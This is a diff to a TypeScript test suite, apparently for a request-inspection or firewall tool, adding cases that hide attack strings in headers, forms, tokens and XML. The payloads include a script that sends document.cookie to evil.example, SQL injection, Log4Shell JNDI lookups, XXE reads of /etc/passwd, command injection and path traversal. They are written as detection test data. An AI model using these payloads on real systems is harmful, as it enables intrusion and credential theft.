@@ -5,6 +5,7 @@ import { FIXTURE_KEY } from '../../src/options'
 import { Conversation } from '../support/conversation'
 
 const SQLI = "x' UNION SELECT NULL,login,secret FROM staff-- -"
+const XSS = '<script>fetch("//evil.example/"+document.cookie)</script>'
 const JNDI = '${jndi:ldap://evil.example/a}'
 const XXE = '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r><q>&x;</q></r>'
 const words = (n: number) => Array.from({ length: n }, (_, i) => `blue chair ${i}`)
@@ -115,6 +116,67 @@ const CASES: [string, Sent, string][] = [
     'query q',
   ],
   ['a value behind 40 kB', { body: json({ pad: 'lorem ipsum '.repeat(3_400), z: SQLI }) }, 'request z'],
+  ['a command in User-Agent', { fields: ['User-Agent: ;cat /etc/passwd'] }, 'header user-agent'],
+  ['a path in Range', { fields: ['Range: ../../../../etc/passwd'] }, 'header range'],
+  [
+    'the middle of a long value',
+    { type: form, body: `q=${'lorem+ipsum+'.repeat(400)}${encodeURIComponent(XSS)}${'+lorem+ipsum'.repeat(400)}` },
+    'request q',
+  ],
+  ['a value behind 800 short words', { fields: [`X-Trace: ${'a b '.repeat(400)}${XSS}`] }, 'header x-trace'],
+  [
+    'the user name of Digest',
+    { fields: [`Authorization: Digest username="${SQLI}", realm="r", nonce="n", uri="/", response="r"`] },
+    'header authorization.username',
+  ],
+  [
+    'a claim of a token',
+    {
+      fields: [
+        `Authorization: Bearer ${['{"alg":"none"}', json({ sub: SQLI })].map((t) => Buffer.from(t).toString('base64url')).join('.')}.`,
+      ],
+    },
+    'header authorization',
+  ],
+  [
+    'the 701st part of a form',
+    {
+      type: 'multipart/form-data; boundary=B',
+      body: `${words(700)
+        .map((word, i) => part(`k${i}`, '', word))
+        .join('')}${part('z', '', SQLI)}--B--\r\n`,
+    },
+    'request z',
+  ],
+  [
+    'a part of a form with bare line feeds',
+    { type: 'multipart/form-data; boundary=B', body: `${part('note', '', SQLI)}--B--\r\n`.replaceAll('\r\n', '\n') },
+    'request note',
+  ],
+  [
+    'a long part of a form',
+    {
+      type: 'multipart/form-data; boundary=B',
+      body: `${part('note', '', `${'lorem ipsum '.repeat(2_500)}${XSS}`)}--B--\r\n`,
+    },
+    'request note',
+  ],
+  [
+    'an external entity in a picture',
+    {
+      type: 'multipart/form-data; boundary=B',
+      body: `${part('f', '; filename="a.svg"\r\nContent-Type: image/svg+xml', XXE)}--B--\r\n`,
+    },
+    'request (body)',
+  ],
+  [
+    'an entity behind a long comment',
+    {
+      type: 'application/xml',
+      body: `<!DOCTYPE r [<!-- ${'lorem ipsum '.repeat(200)} --><!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>`,
+    },
+    'request (body)',
+  ],
   [
     'the name of a file',
     {
